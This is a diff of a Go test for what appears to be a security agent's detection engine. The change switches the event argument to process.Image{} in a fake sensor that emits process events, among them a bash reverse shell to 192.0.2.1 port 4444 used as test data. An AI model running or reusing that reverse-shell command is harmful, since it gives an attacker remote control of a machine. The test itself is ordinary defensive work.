@@ -6,6 +6,7 @@ import (
 	"time"
 
 	"github.com/bulwarkhq/bulwark/agent/detect"
+	"github.com/bulwarkhq/bulwark/agent/process"
 	"github.com/bulwarkhq/bulwark/agent/sensor"
 	"github.com/bulwarkhq/bulwark/agent/sensor/sensortest"
 	"github.com/bulwarkhq/bulwark/content/rules"
@@ -28,9 +29,9 @@ func TestBehaviorsAreNoAlerts(t *testing.T) {
 		Table: sensortest.Table(t), Detect: engine, OnEvent: r.event, OnAlert: r.alert, OnBehavior: behaviors.event, Log: sensortest.Log(t),
 		Sensors: []sensor.Sensor{&fake{"one", both(), func(ctx context.Context, _ []event.Category, s sensor.Sink) error {
 			s.Ready()
-			s.Emit(run(4_000_002, "/usr/bin/uname", "uname -a"), 0)
-			s.Emit(run(4_000_002, "/usr/bin/uname", "uname -a"), 0)
-			s.Emit(run(4_000_003, "/usr/bin/bash", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"), 0)
+			s.Emit(run(4_000_002, "/usr/bin/uname", "uname -a"), process.Image{})
+			s.Emit(run(4_000_002, "/usr/bin/uname", "uname -a"), process.Image{})
+			s.Emit(run(4_000_003, "/usr/bin/bash", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"), process.Image{})
 			<-ctx.Done()
 			return nil
 		}}},
